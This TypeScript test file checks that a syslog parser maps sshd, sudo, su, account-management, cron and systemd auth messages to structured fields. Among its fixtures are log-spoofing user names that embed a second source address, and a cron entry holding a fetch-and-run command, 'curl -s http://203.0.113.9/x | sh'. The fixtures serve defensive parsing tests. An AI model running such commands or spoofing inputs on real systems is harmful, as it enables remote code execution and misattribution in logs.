import { expect, test } from 'vitest'
import { eventOf, loadLine } from './line.ts'

const line = await loadLine()
const read = (program: string, message: string): object =>
  eventOf(line(`<86>May 12 10:00:00 web01 ${program}: ${message}`))

const LOGIN = { 'event.action': 'ssh_login', 'event.dataset': 'system.auth', 'process.name': 'sshd', 'process.pid': 42 }

test.each<[string, object]>([
  [
    'Failed password for root from 203.0.113.9 port 4711 ssh2',
    {
      ...LOGIN,
      'event.outcome': 'failure',
      'event.category': ['authentication'],
      'user.name': 'root',
      'source.ip': '203.0.113.9',
      'source.port': 4711,
      'system.auth.ssh.method': 'password',
      'related.ip': ['203.0.113.9'],
      'related.user': ['root'],
    },
  ],
  [
    'Failed password for invalid user oracle from 2001:db8::9 port 4711 ssh2',
    { ...LOGIN, 'user.name': 'oracle', 'source.ip': '2001:db8::9', 'system.auth.ssh.invalid_user': true },
  ],
  [
    // The name is the attacker's: it must not move the blame to another address.
    'Failed password for invalid user root from 192.0.2.1 port 1 ssh2 from 203.0.113.9 port 4711 ssh2',
    { 'source.ip': '203.0.113.9', 'source.port': 4711, 'user.name': 'root from 192.0.2.1 port 1 ssh2' },
  ],
  [
    'Failed keyboard-interactive/pam for lan from 203.0.113.9 port 4711 ssh2',
    { 'system.auth.ssh.method': 'keyboard-interactive/pam', 'user.name': 'lan', 'event.outcome': 'failure' },
  ],
  [
    'Accepted publickey for lan from 203.0.113.9 port 4711 ssh2: ED25519 SHA256:abcDEF',
    {
      ...LOGIN,
      'event.outcome': 'success',
      'event.category': ['authentication', 'session'],
      'user.name': 'lan',
      'system.auth.ssh.signature': 'ED25519 SHA256:abcDEF',
    },
  ],
  [
    'Accepted password for lan from 203.0.113.9 port 4711 ssh2',
    { ...LOGIN, 'event.outcome': 'success', 'source.port': 4711 },
  ],
  [
    'Invalid user test from 203.0.113.9 port 4711',
    { ...LOGIN, 'event.outcome': 'failure', 'user.name': 'test', 'source.port': 4711 },
  ],
  ['Invalid user  from 203.0.113.9 port 4711', { ...LOGIN, 'source.ip': '203.0.113.9' }],
  [
    'Connection closed by authenticating user root 203.0.113.9 port 4711 [preauth]',
    { 'event.action': 'ssh_disconnect', 'user.name': 'root', 'source.ip': '203.0.113.9' },
  ],
  [
    'Connection reset by invalid user a b 203.0.113.9 port 4711 [preauth]',
    { 'user.name': 'a b', 'source.ip': '203.0.113.9', 'system.auth.ssh.invalid_user': true },
  ],
  ['Connection closed by 203.0.113.9 port 4711 [preauth]', { 'source.ip': '203.0.113.9', 'source.port': 4711 }],
  ['Disconnected from user lan 203.0.113.9 port 4711', { 'event.action': 'ssh_disconnect', 'user.name': 'lan' }],
  [
    'Received disconnect from 203.0.113.9 port 4711:11: disconnected by user',
    { 'source.ip': '203.0.113.9', 'source.port': 4711 },
  ],
  [
    'error: maximum authentication attempts exceeded for invalid user admin from 203.0.113.9 port 4711 ssh2 [preauth]',
    {
      'event.action': 'ssh_attempts_exceeded',
      'event.outcome': 'failure',
      'user.name': 'admin',
      'source.ip': '203.0.113.9',
    },
  ],
  [
    'User lan from 203.0.113.9 not allowed because not listed in AllowUsers',
    { 'event.action': 'ssh_user_denied', 'user.name': 'lan', 'event.reason': 'not listed in AllowUsers' },
  ],
  [
    'Did not receive identification string from 203.0.113.9 port 4711',
    { 'event.action': 'ssh_probe', 'source.ip': '203.0.113.9' },
  ],
  [
    'error: PAM: Authentication failure for illegal user test from 203.0.113.9',
    { 'user.name': 'test', 'source.ip': '203.0.113.9', 'event.outcome': 'failure' },
  ],
  [
    'message repeated 5 times: [ Failed password for root from 203.0.113.9 port 4711 ssh2]',
    { ...LOGIN, 'event.count': 5, 'user.name': 'root', 'source.ip': '203.0.113.9' },
  ],
  [
    'words that no sshd of today knows',
    { 'event.dataset': 'system.auth', message: 'words that no sshd of today knows', 'process.name': 'sshd' },
  ],
  [
    'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=x rhost=192.0.2.1',
    {
      'event.action': 'pam_authentication',
      'event.outcome': 'failure',
      'source.ip': '203.0.113.9',
      'user.name': 'x rhost=192.0.2.1',
      'event.provider': 'pam_unix',
      'system.auth.pam.service': 'sshd',
    },
  ],
  [
    'pam_unix(sshd:session): session opened for user lan(uid=1001) by (uid=0)',
    { 'event.action': 'pam_session_opened', 'user.name': 'lan', 'user.id': '1001' },
  ],
  ['pam_unix(sshd:auth): check pass; user unknown', { 'event.outcome': 'failure' }],
])('sshd: %s', (message, fields) => {
  expect(read('sshd[42]', message)).toMatchObject(fields)
})

test.each<[string, string, object]>([
  [
    'sudo',
    '     lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=/bin/sh -c id ; USER=nobody',
    {
      'event.action': 'sudo_command',
      'event.outcome': 'success',
      'user.name': 'lan',
      'user.effective.name': 'root',
      'process.command_line': '/bin/sh -c id ; USER=nobody',
      'process.working_directory': '/home/lan',
      'system.auth.sudo.tty': 'pts/0',
      'related.user': ['lan', 'root'],
    },
  ],
  [
    'sudo',
    'lan : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls',
    { 'event.action': 'sudo_denied', 'event.outcome': 'failure', 'system.auth.sudo.error': 'user NOT in sudoers' },
  ],
  [
    'sudo',
    'lan : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls',
    { 'event.action': 'sudo_authentication', 'event.category': ['authentication'], 'event.outcome': 'failure' },
  ],
  ['sudo', 'unable to resolve host web01', { message: 'unable to resolve host web01', 'event.dataset': 'system.auth' }],
  [
    'su',
    '(to root) lan on pts/1',
    { 'event.action': 'su', 'event.outcome': 'success', 'user.name': 'lan', 'user.effective.name': 'root' },
  ],
  ['su', 'FAILED SU (to root) lan on pts/1', { 'event.outcome': 'failure', 'user.effective.name': 'root' }],
  ['su', 'Successful su for root by lan', { 'event.outcome': 'success', 'user.name': 'lan' }],
  ['su', 'FAILED su for root by lan', { 'event.outcome': 'failure', 'user.name': 'lan' }],
  ['su', '+ /dev/pts/0 lan:root', { 'event.outcome': 'success', 'user.name': 'lan', 'user.effective.name': 'root' }],
  [
    'useradd[9]',
    'new user: name=kho, UID=1002, GID=1002, home=/home/kho, shell=/bin/bash, from=/dev/pts/0',
    {
      'event.category': ['iam'],
      'event.type': ['user', 'creation'],
      'event.action': 'added-user-account',
      'user.name': 'kho',
      'user.id': '1002',
      'system.auth.useradd.shell': '/bin/bash',
    },
  ],
  [
    'groupadd[9]',
    'new group: name=kho, GID=1002',
    { 'event.type': ['group', 'creation'], 'group.name': 'kho', 'group.id': '1002' },
  ],
  [
    'usermod[9]',
    "add 'kho' to group 'sudo'",
    { 'event.action': 'added-member-to-group', 'user.name': 'kho', 'group.name': 'sudo' },
  ],
  [
    'gpasswd[9]',
    'user kho added by root to group sudo',
    {
      'event.action': 'added-member-to-group',
      'user.name': 'kho',
      'group.name': 'sudo',
      'user.effective.name': 'root',
    },
  ],
  ['userdel[9]', "delete user 'kho'", { 'event.type': ['user', 'deletion'], 'user.name': 'kho' }],
  [
    'useradd[9]',
    "failed adding user 'kho', exit code: 9",
    { 'event.outcome': 'failure', 'event.type': ['user', 'creation'], 'user.name': 'kho' },
  ],
  [
    'passwd[9]',
    'pam_unix(passwd:chauthtok): password changed for kho',
    { 'event.action': 'changed-password', 'user.name': 'kho' },
  ],
  ['chage[9]', 'changed password expiry for kho', { 'event.action': 'changed-password-expiry', 'user.name': 'kho' }],
  [
    'CRON[9]',
    '(root) CMD (curl -s http://203.0.113.9/x | sh)',
    {
      'event.dataset': 'system.syslog',
      'event.action': 'cron_command',
      'user.name': 'root',
      'process.command_line': 'curl -s http://203.0.113.9/x | sh',
    },
  ],
  ['crontab[9]', '(www-data) REPLACE (www-data)', { 'event.action': 'crontab_replace', 'user.name': 'www-data' }],
  ['systemd-logind[9]', 'New session 12 of user lan.', { 'event.action': 'session_started', 'user.name': 'lan' }],
  [
    'systemd[1]',
    'Stopped auditd.service - Security Auditing Service.',
    { 'event.action': 'unit_stopped', 'service.name': 'auditd.service - Security Auditing Service' },
  ],
  [
    'sshd(pam_unix)[9]',
    'session opened for user lan by (uid=0)',
    { 'process.name': 'sshd', 'event.action': 'pam_session_opened', 'user.name': 'lan' },
  ],
])('%s: %s', (program, message, fields) => {
  expect(read(program, message)).toMatchObject(fields)
})

test('a program that is not sshd cannot speak for it', () => {
  const event = read('myapp', 'Failed password for root from 203.0.113.9 port 4711 ssh2')
  expect(event).not.toHaveProperty('event.action')
  expect(event).not.toHaveProperty('source.ip')
})
